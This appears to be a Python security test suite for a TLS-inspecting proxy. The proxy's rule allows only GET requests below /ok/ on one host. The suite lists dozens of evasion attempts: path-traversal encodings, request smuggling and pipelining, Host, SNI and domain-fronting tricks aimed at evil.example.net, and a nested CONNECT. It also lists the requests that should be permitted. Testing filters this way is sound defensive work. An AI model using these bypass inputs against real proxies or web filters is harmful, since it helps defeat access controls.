"""Attacks inside a tunnel that the proxy opens: each request is decided, not only the first.

`inspected.example.com` may be asked with GET below `/ok/`, and nothing else.
"""
# ruff: noqa: E501  one attack a line

from __future__ import annotations

from collections.abc import Callable
from typing import Final

from tests.net.attacks.attempt import Attack, Attempt, read_all, read_some
from tests.net.attacks.client_hello import client_hello
from tests.net.attacks.tunnels import raw_tunnel

HOST: Final = "inspected.example.com"
_TARGET: Final = f"{HOST}:443"


def _wire(*parts: str) -> Callable[[Attempt], None]:
    """Requests on one connection, each after the answer to the one before; `$M` is the marker."""

    def act(attempt: Attempt) -> None:
        with attempt.tls(_TARGET, HOST) as secure:
            for part in parts:
                secure.sendall(part.replace("$M", attempt.marker).replace("$H", f"Host: {HOST}").encode("latin-1"))
                if part is not parts[-1]:
                    read_some(secure)
            read_all(secure)

    return act


def _sni(server_name: str | None, target: str = _TARGET) -> Callable[[Attempt], None]:
    def act(attempt: Attempt) -> None:
        with attempt.tls(target, server_name) as secure:
            secure.sendall(f"GET /ok/{attempt.marker} HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
            read_all(secure)

    return act


def _bad_certificate(attempt: Attempt) -> None:
    """The upstream cannot prove who it is: the request may not be shown to it."""
    host = "bad-certificate.example.com"
    with attempt.tls(f"{host}:443", host) as secure:
        secure.sendall(f"GET /{attempt.marker} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        read_all(secure)


def _plain_on_port_80(wire: str) -> Callable[[Attempt], None]:
    """The same rule holds for plain HTTP to the same host."""

    def act(attempt: Attempt) -> None:
        attempt.send(wire.replace("$M", attempt.marker).encode())

    return act


def _http2_preface(attempt: Attempt) -> None:
    with attempt.tls(_TARGET, HOST) as secure:
        secure.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + attempt.marker.encode())
        read_all(secure)


def _not_tls(attempt: Attempt) -> None:
    raw_tunnel(attempt, f"GET /ok/{attempt.marker} HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode(), target=_TARGET)


def _two_names(attempt: Attempt) -> None:
    hello = client_hello([HOST, "evil.example.net"], session=attempt.marker.encode())
    raw_tunnel(attempt, hello, target=_TARGET)


ATTACKS: Final = (
    Attack("a method that is not allowed", _wire("POST /ok/$M HTTP/1.1\r\n$H\r\nContent-Length: 0\r\n\r\n")),
    Attack("a method in lower case", _wire("get /ok/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("a path that is not allowed", _wire("GET /secret/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("dots out of the allowed path", _wire("GET /ok/../secret/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("encoded dots", _wire("GET /ok/%2e%2e/secret/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("half-encoded dots", _wire("GET /ok/.%2E/secret/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("an encoded slash", _wire("GET /ok/..%2fsecret/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("dots with a parameter", _wire("GET /ok/..;x=1/secret/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("a parameter in front of the prefix's end", _wire("GET /ok;x/../secret/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("dots encoded twice", _wire("GET /ok/%252e%252e%252fsecret/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("a slash in front, as of a host", _wire("GET //ok/secret/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("overlong dots", _wire("GET /ok/%c0%ae%c0%ae/secret/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("a backslash", _wire("GET /ok/..\\secret/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("two slashes", _wire("GET //ok/../secret/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("a path behind a NUL", _wire("GET /ok/x%00/../../secret/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("a second request with a forbidden path", _wire("GET /ok/first HTTP/1.1\r\n$H\r\n\r\n", "GET /secret/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("a pipelined forbidden path", _wire("GET /ok/first HTTP/1.1\r\n$H\r\n\r\nGET /secret/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("domain fronting by Host", _wire("GET /ok/$M HTTP/1.1\r\nHost: evil.example.net\r\n\r\n")),
    Attack("fronting to another allowed host", _wire("GET /ok/$M HTTP/1.1\r\nHost: api.example.com\r\n\r\n")),
    Attack("two Hosts", _wire("GET /ok/$M HTTP/1.1\r\n$H\r\nHost: evil.example.net\r\n\r\n")),
    Attack("no Host", _wire("GET /ok/$M HTTP/1.1\r\nX: y\r\n\r\n")),
    Attack("absolute form for another host", _wire("GET http://evil.example.net/ok/$M HTTP/1.1\r\n$H\r\n\r\n"), (("evil.example.net", 80),), ("evil.example.net",)),
    Attack("absolute form, https, to another allowed host", _wire("GET https://api.example.com/ok/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("absolute form, https, with another Host", _wire("GET https://inspected.example.com/ok/$M HTTP/1.1\r\nHost: evil.example.net\r\n\r\n")),
    Attack("absolute form, https, another host", _wire("GET https://evil.example.net/ok/$M HTTP/1.1\r\n$H\r\n\r\n"), (("evil.example.net", 443),), ("evil.example.net",)),
    Attack("a CONNECT inside", _wire("CONNECT evil.example.net:443 HTTP/1.1\r\n$H\r\n\r\n", "$M"), (("evil.example.net", 443),), ("evil.example.net",)),
    Attack("a bare LF", _wire("GET /ok/$M HTTP/1.1\n$H\n\n")),
    Attack("a bare CR", _wire("GET /ok/$M HTTP/1.1\r\n$H\r\nX: a\rb\r\n\r\n")),
    Attack("obs-fold", _wire("GET /ok/$M HTTP/1.1\r\n$H\r\nX: a\r\n b\r\n\r\n")),
    Attack("Content-Length beside Transfer-Encoding", _wire("GET /ok/$M HTTP/1.1\r\n$H\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")),
    Attack("the HTTP/2 preface", _http2_preface),
    Attack("a megabyte of head", _wire("GET /ok/$M HTTP/1.1\r\n$H\r\n" + "X: " + "y" * 1_000_000 + "\r\n\r\n")),
    Attack("SNI of another host", _sni("evil.example.net")),
    Attack("no SNI", _sni(None)),
    Attack("two SNIs", _two_names),
    Attack("bytes that are not TLS", _not_tls),
    Attack("an upstream with a bad certificate", _bad_certificate),
    Attack("plain HTTP with a forbidden method", _plain_on_port_80(f"POST http://{HOST}/ok/$M HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 0\r\n\r\n")),
    Attack("plain HTTP with a forbidden path", _plain_on_port_80(f"GET http://{HOST}/secret/$M HTTP/1.1\r\nHost: {HOST}\r\n\r\n")),
)  # fmt: skip

PERMITTED: Final = (
    Attack("what the rule says", _wire("GET /ok/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("a second request on the same connection", _wire("GET /ok/first HTTP/1.1\r\n$H\r\n\r\n", "GET /ok/$M HTTP/1.1\r\n$H\r\n\r\n")),
    Attack("what the rule says, in plain HTTP", _plain_on_port_80(f"GET http://{HOST}/ok/$M HTTP/1.1\r\nHost: {HOST}\r\n\r\n")),
)  # fmt: skip
